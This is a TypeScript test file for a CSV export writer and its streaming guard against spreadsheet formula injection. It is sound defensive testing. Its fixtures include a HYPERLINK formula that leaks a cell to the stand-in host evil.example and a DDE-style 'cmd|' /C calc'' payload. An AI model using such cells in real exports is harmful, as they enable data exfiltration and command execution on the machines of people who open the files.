import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { csvLine, guardCell, guardCsvStream, newDownloadShape, newProgress, opensAsFormula, passThroughCsv, tablePagesToCsv } from '../../shared/exports/csv-writer.js';
import type { ReportTablePage } from '../../shared/kaltura/kaltura-api.js';
import { parseCsv } from './helpers.js';

async function collect(source: AsyncIterable<Buffer>): Promise<Buffer> {
  const parts: Buffer[] = [];
  for await (const p of source) parts.push(p);
  return Buffer.concat(parts);
}

async function* pages(...list: ReportTablePage[]): AsyncGenerator<ReportTablePage> {
  yield* list;
}

const page = (pageIndex: number, header: string[], rows: string[][]): ReportTablePage => ({ pageIndex, header, rows, totalCount: 0 });

describe('CSV writer (RFC 4180)', () => {
  it('quotes only the cells that need it and doubles inner quotes', () => {
    expect(csvLine(['plain', 'a,b', 'say "hi"', 'two\nlines', 'Café 東京', ''])).toBe('plain,"a,b","say ""hi""","two\nlines",Café 東京,\r\n');
  });

  it('writes a header row then every row of every page, UTF-8, and counts rows, pages and bytes', async () => {
    // Prepare
    const progress = newProgress();
    const header = ['object_id', 'entry_name', 'count_plays'];
    // Act
    const out = await collect(tablePagesToCsv(pages(page(1, header, [['1_a', 'Onboarding, part 2', '5']]), page(2, header, [['1_b', 'CEO "Town Hall"', '7'], ['1_c', 'Müller & Søn', '0']])), progress));
    // Assess
    const text = out.toString('utf8');
    expect(parseCsv(text)).toEqual([header, ['1_a', 'Onboarding, part 2', '5'], ['1_b', 'CEO "Town Hall"', '7'], ['1_c', 'Müller & Søn', '0']]);
    expect(progress).toMatchObject({ rows: 3, pages: 2, bytes: out.length, header });
  });

  it('maps a later page to the file header by name when Kaltura sends its columns in another order', async () => {
    const progress = newProgress();
    const out = await collect(tablePagesToCsv(pages(page(1, ['a', 'b'], [['1', '2']]), page(2, ['b', 'a'], [['20', '10']])), progress));
    expect(parseCsv(out.toString())).toEqual([['a', 'b'], ['1', '2'], ['10', '20']]);
  });

  it('refuses a page with a column the file does not have (never shifts values into the wrong column)', async () => {
    const progress = newProgress();
    await expect(collect(tablePagesToCsv(pages(page(1, ['a'], [['1']]), page(2, ['a', 'z'], [['1', '2']])), progress))).rejects.toThrow(/columns changed between pages \(new: z\)/);
  });

  it('writes an empty file for a report with no rows', async () => {
    const progress = newProgress();
    const out = await collect(tablePagesToCsv(pages(), progress));
    expect(out.length).toBe(0);
    expect(progress.rows).toBe(0);
  });

  it('round-trips any cell text through a standard CSV parser with the formula guard off', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 2, maxLength: 2 }), { minLength: 1, maxLength: 20 }), async (rows) => {
        const progress = newProgress();
        const out = await collect(tablePagesToCsv(pages(page(1, ['x', 'y'], rows)), progress, { formulaGuard: false }));
        expect(parseCsv(out.toString('utf8'))).toEqual([['x', 'y'], ...rows]);
      }),
      { numRuns: 200 },
    );
  });
});

describe('pass-through of downloaded CSV files', () => {
  it('strips a BOM that arrives split across chunks and counts lines', async () => {
    // Prepare
    const progress = newProgress();
    const shape = newDownloadShape();
    const source = [Buffer.from([0xef]), Buffer.from([0xbb, 0xbf, 0x65]), Buffer.from('mail,x\nu@e.com,1\nv@e.com,2\n')];
    // Act
    const out = await collect(passThroughCsv(source, progress, shape, { stripBom: true }));
    // Assess
    expect(out.toString('utf8')).toBe('email,x\nu@e.com,1\nv@e.com,2\n');
    expect(shape).toEqual({ bom: true, lines: 3, tableRows: 0 });
    expect(progress.bytes).toBe(out.length);
  });

  it('keeps a getUrlForReportAsCsv file as it is and counts the rows of its table section', async () => {
    const file = '\uFEFF"Top content"\n"Sunday, June 1, 2025","Monday, June 30, 2025"\n"text"\n"# ------------------------------------"\n""\n"# ------------------------------------"\n"# Table","","Total Count","2"\n"# ------------------------------------"\n"Entry ID","Plays"\n"1_a","5"\n"1_b","7"\n';
    const progress = newProgress();
    const shape = newDownloadShape();
    const bytes = Buffer.from(file, 'utf8');
    const out = await collect(passThroughCsv([bytes.subarray(0, 100), bytes.subarray(100, 101), bytes.subarray(101)], progress, shape));
    expect(out.equals(bytes)).toBe(true);
    expect(shape.bom).toBe(true);
    expect(shape.tableRows).toBe(2);
    expect(shape.lines).toBe(11);
  });
});

/** Cells as end users and Kaltura write them: formula triggers, numbers, quotes, separators, non-ASCII. */
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
const cellArb = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.tuple(fc.constantFrom(...TRIGGERS), fc.string({ unit: 'grapheme' })).map(([t, rest]) => t + rest),
  fc.constantFrom('=HYPERLINK("http://evil.example/?x="&A1,"click")', '@SUM(A1:A9)', '-', '+', '=', '-5', '+3', '-1.5e3', '-0.25', '1e6', '-.5', '-5 apples', '\t=1', '"=quoted"', 'a,b', '東京', '🎤'),
  fc.integer({ min: -1_000_000, max: 1_000_000 }).map(String),
  fc.double({ noNaN: true, noDefaultInfinity: true }).map(String),
);
const rowsArb = fc.array(fc.array(cellArb, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 15 });
const isNumber = (s: string) => /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/.test(s);

/** Splits bytes at random places (multi-byte characters and quote pairs cut too). */
function chunked(bytes: Buffer, cuts: number[]): Buffer[] {
  const points = [...new Set(cuts.map((c) => c % (bytes.length + 1)))].sort((a, b) => a - b);
  const out: Buffer[] = [];
  let from = 0;
  for (const p of points) {
    out.push(bytes.subarray(from, p));
    from = p;
  }
  out.push(bytes.subarray(from));
  return out;
}

async function* fromChunks(chunks: Buffer[]): AsyncGenerator<Buffer> {
  yield* chunks;
}

describe('formula guard (SPEC §5)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['+cmd', "'+cmd"],
    ['-2+3', "'-2+3"],
    ['-', "'-"],
    ['\tindent', "'\tindent"],
    ['\rreturn', "'\rreturn"],
    ['-5', '-5'],
    ['+3', '+3'],
    ['-1.5e3', '-1.5e3'],
    ['-.5', '-.5'],
    ['plain', 'plain'],
    ['', ''],
    [' =not a formula (leading space)', ' =not a formula (leading space)'],
  ])('guards %j as %j', (cell, expected) => {
    expect(guardCell(cell)).toBe(expected);
  });

  it('writes a user-typed HYPERLINK entry name as text, and a negative number as a number', async () => {
    // Prepare
    const rows = [['1_a', '=HYPERLINK("http://evil.example/?x="&A1,"click")', '-5']];
    // Act
    const out = await collect(tablePagesToCsv(pages(page(1, ['object_id', 'entry_name', 'delta'], rows)), newProgress()));
    // Assess
    expect(out.toString('utf8')).toBe('object_id,entry_name,delta\r\n1_a,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-5\r\n');
  });

  it('property: with the guard on, no cell of the file opens as a formula, every cell is the guarded input, and numbers round-trip', async () => {
    await fc.assert(
      fc.asyncProperty(rowsArb, async (rows) => {
        // Act
        const out = await collect(tablePagesToCsv(pages(page(1, ['a', 'b', 'c'], rows)), newProgress()));
        // Assess
        const parsed = parseCsv(out.toString('utf8')).slice(1);
        expect(parsed).toEqual(rows.map((r) => r.map(guardCell)));
        for (const cell of parsed.flat()) expect(opensAsFormula(cell)).toBe(false);
        rows.flat().forEach((cell, i) => {
          if (isNumber(cell)) expect(parsed.flat()[i]).toBe(cell);
        });
      }),
      { numRuns: 300 },
    );
  });

  it('property: with the guard off, cells starting with a trigger are written exactly as given', async () => {
    await fc.assert(
      fc.asyncProperty(rowsArb, async (rows) => {
        const out = await collect(tablePagesToCsv(pages(page(1, ['a', 'b', 'c'], rows)), newProgress(), { formulaGuard: false }));
        expect(parseCsv(out.toString('utf8')).slice(1)).toEqual(rows);
      }),
      { numRuns: 100 },
    );
  });

  it('property: the streaming guard over a passed-through RFC 4180 file gives the same bytes as guarding while writing, however the bytes are cut', async () => {
    await fc.assert(
      fc.asyncProperty(rowsArb, fc.array(fc.nat(), { maxLength: 12 }), async (rows, cuts) => {
        // Prepare: the file as Kaltura or the Reports Microservice would send it (no guard), cut into chunks.
        const raw = Buffer.from(rows.map((r) => csvLine(r)).join(''), 'utf8');
        const expected = rows.map((r) => csvLine(r, true)).join('');
        // Act
        const out = await collect(guardCsvStream(fromChunks(chunked(raw, cuts))));
        // Assess
        expect(out.toString('utf8')).toBe(expected);
      }),
      { numRuns: 300 },
    );
  });

  it('property: the streaming guard over an unquoted getCsvFromStringParams file guards each cell and keeps numbers', async () => {
    // Kaltura's string-params files: cells joined by commas, no quoting (commas in values become spaces), LF line ends.
    const plainCell = cellArb.map((c) => c.replace(/[,\n\r"]/g, ' '));
    await fc.assert(
      fc.asyncProperty(fc.array(fc.array(plainCell, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 15 }), fc.array(fc.nat(), { maxLength: 8 }), async (rows, cuts) => {
        const raw = Buffer.from(rows.map((r) => r.join(',') + '\n').join(''), 'utf8');
        const out = await collect(guardCsvStream(fromChunks(chunked(raw, cuts))));
        expect(out.toString('utf8')).toBe(rows.map((r) => r.map(guardCell).join(',') + '\n').join(''));
      }),
      { numRuns: 200 },
    );
  });

  it('guards the same whatever byte a chunk ends at, also right after the opening quote of a quoted -/+ cell', async () => {
    // Prepare: random cuts rarely land between `"` and `-`; here every single cut point is tried (found in review).
    const rows = [['1_a', "-2+3+cmd|' /C calc'!A0,x", '-5'], ['1_b', '"+x"', '+3'], ['-1.5e3', '-', '=1+1']];
    const raw = Buffer.from(rows.map((r) => csvLine(r)).join(''), 'utf8');
    const expected = rows.map((r) => csvLine(r, true)).join('');
    for (let cut = 1; cut < raw.length; cut++) {
      // Act
      const out = await collect(guardCsvStream(fromChunks([raw.subarray(0, cut), raw.subarray(cut)])));
      // Assess
      expect(out.toString('utf8'), `cut at byte ${cut}`).toBe(expected);
    }
  });

  it('guards a long +/- cell without holding the rest of the file', async () => {
    // Prepare: a cell that starts like a number and runs on for 100 KB, in 1 KB pieces.
    const cell = '-' + '1'.repeat(100_000) + 'x';
    const raw = Buffer.from(`a,${cell}\nb,-7\n`);
    const pieces: Buffer[] = [];
    for (let i = 0; i < raw.length; i += 1024) pieces.push(raw.subarray(i, i + 1024));
    // Act
    const parts: Buffer[] = [];
    for await (const p of guardCsvStream(fromChunks(pieces))) parts.push(p);
    // Assess: decided after a few dozen characters, so output keeps flowing chunk by chunk.
    expect(Buffer.concat(parts).toString()).toBe(`a,'${cell}\nb,-7\n`);
    expect(parts.length).toBeGreaterThan(50);
  });
});
